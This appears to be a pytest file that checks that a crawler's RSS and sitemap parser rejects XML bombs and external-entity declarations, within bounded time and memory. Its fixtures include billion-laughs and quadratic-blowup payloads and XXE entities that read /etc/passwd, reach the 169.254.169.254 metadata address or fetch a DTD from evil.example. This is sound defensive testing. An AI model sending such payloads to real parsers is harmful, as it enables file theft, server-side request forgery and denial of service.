"""XML bombs and external entities are refused with a reason, quickly and in little memory."""

from __future__ import annotations

import time
import tracemalloc
from datetime import UTC, datetime

import pytest

from app.crawlers.parsers import ParseError, parse_feed, parse_sitemap

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
ITEM = b"<item><title>Banjir</title><link>https://berita.example.id/read/1</link></item>"


def rss(prolog: bytes = b"", items: bytes = ITEM) -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n' + prolog + b'\n<rss version="2.0"><channel>'
        b"<title>t</title>" + items + b"</channel></rss>"
    )


BILLION_LAUGHS = rss(
    b'<!DOCTYPE rss [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>",
    items=b"<item><title>&lol9;</title><link>https://x.example/1</link></item>",
)
QUADRATIC = rss(
    b'<!DOCTYPE rss [<!ENTITY a "' + b"A" * 100_000 + b'">]>',
    items=b"<item><title>" + b"&a;" * 20_000 + b"</title><link>https://x.example/1</link></item>",
)


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (BILLION_LAUGHS, "an XML entity"),
        (QUADRATIC, "an XML entity"),
        (rss(b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'), "external entity"),
        (
            rss(b'<!DOCTYPE rss [<!ENTITY xxe PUBLIC "-//x//y" "http://169.254.169.254/">]>'),
            "external entity",
        ),
        (
            rss(b'<!DOCTYPE rss [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>'),
            "parameter entity",
        ),
        (rss(b'<!DOCTYPE rss [<!entity   lower "case">]>'), "an XML entity"),
    ],
)
def test_entity_declarations_are_rejected_with_their_kind(body: bytes, kind: str) -> None:
    with pytest.raises(ParseError, match=kind):
        parse_feed(body, now=NOW)


def test_entity_declared_past_the_first_64_kib_is_rejected() -> None:
    padding = b"<!-- " + b"x" * 100_000 + b" -->"
    body = rss(padding + b'<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>')
    with pytest.raises(ParseError, match="entity"):
        parse_feed(body, now=NOW)


def test_utf16_encoded_bomb_cannot_hide_its_declarations() -> None:
    body = BILLION_LAUGHS.decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    for encoded in (body.encode("utf-16"), body.encode("utf-16-le")):
        with pytest.raises(ParseError, match="entity"):
            parse_feed(encoded, now=NOW)


def test_sitemaps_get_the_same_check() -> None:
    body = (
        b'<?xml version="1.0"?><!DOCTYPE u [<!ENTITY x SYSTEM "file:///etc/hosts">]>'
        b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>&x;</loc></url>'
        b"</urlset>"
    )
    with pytest.raises(ParseError, match="external entity"):
        parse_sitemap(body, now=NOW)


def test_a_10_mb_feed_is_checked_in_bounded_time_and_memory() -> None:
    items = ITEM * (10_000_000 // len(ITEM))
    body = rss(items=items) + b'<!DOCTYPE x [<!ENTITY late "boom">]>'
    tracemalloc.start()
    began = time.perf_counter()
    try:
        with pytest.raises(ParseError, match="entity"):
            parse_feed(body, now=NOW)
        _now, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - began < 5  # linear: an entity blow-up takes minutes
    assert peak < 3 * len(body)


def test_harmless_doctype_of_rss_091_still_parses() -> None:
    body = rss(
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    ).replace(b'version="2.0"', b'version="0.91"')
    feed = parse_feed(body, now=NOW)
    assert feed.format == "rss091n"
    assert [i.title for i in feed.items] == ["Banjir"]


def test_a_second_doctype_is_rejected() -> None:
    body = rss(b"<!DOCTYPE rss>", items=ITEM + b"<!DOCTYPE rss>")
    with pytest.raises(ParseError, match="more than one DOCTYPE"):
        parse_feed(body, now=NOW)
